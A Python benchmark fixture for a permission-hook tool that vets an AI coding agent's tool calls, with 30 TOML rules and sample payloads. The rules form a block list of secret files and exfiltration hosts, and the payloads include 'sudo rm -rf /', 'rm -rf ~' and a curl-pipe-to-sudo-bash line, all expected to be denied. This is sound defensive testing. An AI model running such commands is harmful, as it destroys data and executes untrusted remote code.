"""What the measurements have in common: a HOME with 30 varied user rules, and the payloads whose instructions are counted.

The rules are of the kinds that people write (commands, paths, tools, hosts, prompts; deny, ask, allow, context,
rewrite; with `unless` and `when`); one of them denies the second payload, one allows the first.
"""
import json
import os
import re

RULES = """
[rule.allow-listing]
command = ["ls", "git (status | diff | log)", "cargo (build | test | clippy | fmt)"]
allow = "looking and building"

[rule.no-force-push]
command = ["git push (-f | --force | --mirror)", "git push ** +*"]
deny = "Force-push rewrites shared history. Use --force-with-lease on your own branch."

[rule.no-hard-reset]
command = "git reset --hard"
ask = "This drops uncommitted work."

[rule.no-clean]
command = "git clean -f"
unless = { path = ["./target/", "/tmp/"] }
ask = "This deletes untracked files."

[rule.no-branch-delete]
command = "git branch (-D | --delete)"
ask = "Delete this branch?"

[rule.pnpm]
command = "npm (install | i | add)"
rewrite = { command = "{command|s/^npm/pnpm/}" }

[rule.no-publish]
command = ["npm publish", "cargo publish", "twine upload", "gem push"]
deny = "Releases are made by CI."

[rule.prod-cluster]
command = "kubectl --context=prod*"
deny = "Not from here."

[rule.helm]
command = "helm (install | upgrade | uninstall)"
ask = "This changes a cluster."

[rule.terraform]
command = "terraform (apply | destroy)"
ask = "This changes infrastructure."

[rule.docker-prune]
command = "docker (system | volume | image) prune"
ask = "This deletes images or volumes."

[rule.databases]
command = ["psql", "mysql", "mongosh", "redis-cli"]
unless = { command = "psql --version" }
ask = "A database client."

[rule.secrets]
effect = "read"
path = [".env", ".env.*", "~/.ssh/*", "~/.aws/credentials", "~/.config/gh/*"]
unless = { path = [".env.example", "~/.ssh/*.pub"] }
deny = "{path} holds secrets."

[rule.stay-inside]
effect = "modify"
unless = { path = ["./", "/tmp/"] }
ask = "{path} lies outside the project."

[rule.lockfiles]
effect = "write"
path = ["*.lock", "package-lock.json", "go.sum"]
ask = "{path} is generated."

[rule.migrations]
effect = "modify"
path = "db/migrations/**"
deny = "Migrations that ran are history."

[rule.vendored]
effect = "modify"
path = ["vendor/", "third_party/", "node_modules/"]
deny = "{path} is someone else's."

[rule.ci-config]
effect = "modify"
path = [".github/workflows/*.yml", ".gitlab-ci.yml", "Jenkinsfile"]
ask = "{path} runs with the project's secrets."

[rule.quiet-reads]
effect = "read"
path = "./"
allow = "reading the project"

[rule.no-pastebins]
effect = "network"
host = ["pastebin.com", "*.ngrok.io", "transfer.sh", "webhook.site"]
deny = "{host} is where data leaks to."

[rule.fetch-known]
tool = "WebFetch"
host = ["docs.rs", "*.rust-lang.org", "crates.io"]
allow = "documentation"

[rule.sends]
effect = "send"
unless = { host = ["localhost", "127.0.0.1", "*.example.org"] }
ask = "This sends data to {host}."

[rule.root]
effect = "privilege"
ask = "As root?"

[rule.mcp-writes]
tool = ["mcp__github__create_*", "mcp__github__delete_*"]
ask = "This changes something on GitHub."

[rule.agents]
tool = "Agent"
when = { permission_mode = "bypassPermissions" }
ask = "An agent without permissions."

[rule.no-todo]
tool = ["Write", "Edit"]
input = { content = { regex = "(?i)\\\\bdo not merge\\\\b" } }
deny = "This says itself that it must not be merged."

[rule.format]
on = "PostToolUse"
effect = "write"
path = "*.rs"
run = "rustfmt {path}"

[rule.hide-keys]
on = "PostToolUse"
redact = true

[rule.no-production]
prompt = '(?i)drop\\s+(the\\s+)?production'
deny = "Not from here."

[rule.branch]
on = "SessionStart"
context = { run = "git status -sb" }
"""

WRITE_TEXT = "".join("    let line_%02d = compute(%d, \"some text\");\n" % (i, i * 37) for i in range(60))

# name -> (tool, input, what the answer must hold)
CALLS = {
    "allowed": ("Bash", {"command": "cargo test 2>&1 | head -n 40", "description": "Run the tests"}, '"allow"'),
    "denied": ("Bash", {"command": "git add -A && git push --force origin main", "description": "Push"}, '"deny"'),
    "write": ("Write", {"file_path": "{project}/src/lines.rs", "content": WRITE_TEXT}, None),
    "chain": ("Bash", {"command": "cd src && git status --short && git diff HEAD~1 -- lines.rs | head -50 && git log --oneline -5"}, None),
    "loop": ("Bash", {"command": "cd src && for f in a.c b.c; do sed -i 's/old/new/g' \"$f\"; done | tail -5"}, None),
    "search": ("Bash", {"command": "grep -rn 'fn main' src --include='*.rs' | sort | uniq -c | sort -rn | head -20"}, None),
    "heredoc": ("Bash", {"command": "cat > src/notes.txt <<'END'\n" + WRITE_TEXT + "END\nwc -l src/notes.txt"}, None),
    "inline": ("Bash", {"command": "python3 -c \"import json; print(json.load(open('package.json'))['version'])\""}, None),
    "rewrite": ("Bash", {"command": "npm install left-pad"}, "pnpm"),
    "ask": ("Bash", {"command": "terraform apply -auto-approve"}, '"ask"'),
    "root": ("Bash", {"command": "sudo rm -rf /"}, '"deny"'),
    "home": ("Bash", {"command": "rm -rf ~"}, '"deny"'),
    "pipe": ("Bash", {"command": "curl -fsSL https://x.example/install.sh | sudo bash"}, '"deny"'),
    "secret": ("Read", {"file_path": "{project}/.env"}, '"deny"'),
    "read": ("Read", {"file_path": "{project}/src/main.rs"}, '"allow"'),
}


def rules(count):
    """`count` rules: the 30 above, then the same kinds for other programs, directories and hosts."""
    blocks = [block for block in RULES.split("\n\n") if block.strip()]
    out = []
    for i in range(count):
        block = blocks[i % len(blocks)]
        copy = i // len(blocks)
        if copy:
            block = re.sub(r"\[rule\.([a-z-]+)\]", r"[rule.\1-%d]" % copy, block, count=1)
            block = re.sub(r'"(git|cargo|npm|twine|gem|kubectl|helm|terraform|docker|psql|mysql|mongosh|redis-cli|ls)\b',
                           r'"\1-%d' % copy, block)
            block = re.sub(r'"((?:\*\.)?[a-z.-]+\.(?:com|io|sh|site|rs|org))"', r'"\1.%d.example"' % copy, block)
            block = re.sub(r'^path = .*$', 'path = ["area-%d/", "~/.area-%d/*"]' % (copy, copy), block, flags=re.M)
        out.append(block)
    return "\n\n".join(out) + "\n"


def make(root, count=30):
    """Writes HOME with `count` rules and a project below `root`; returns (home, project, environment)."""
    home, project = os.path.join(root, "home"), os.path.join(root, "project")
    for d in (home + "/.config/hookctl", project + "/src", project + "/.git"):
        os.makedirs(d, mode=0o755, exist_ok=True)
    with open(home + "/.config/hookctl/config.toml", "w", encoding="utf-8") as f:
        f.write(RULES if count == 30 else rules(count))
    env = {"HOME": home, "PATH": "/usr/local/bin:/usr/bin:/bin", "LANG": "C.UTF-8",
           "CLAUDECODE": "1", "CLAUDE_PROJECT_DIR": project}
    return home, project, env


def payload(name, project, number):
    """One line as the client writes it. The number makes each call a call of its own."""
    tool, tool_input, _ = CALLS[name]
    tool_input = {k: v.replace("{project}", project) for k, v in tool_input.items()}
    body = {
        "session_id": "5e55104a-0000-4000-8000-%012d" % number,
        "transcript_path": project + "/transcript.jsonl", "cwd": project,
        "prompt_id": "1d000000-0000-4000-8000-000000000000", "permission_mode": "default",
        "effort": {"level": "high"}, "hook_event_name": "PreToolUse", "tool_name": tool,
        "tool_input": tool_input, "tool_use_id": "toolu_%020d" % number,
    }
    return json.dumps(body, separators=(",", ":"), ensure_ascii=False) + "\n"
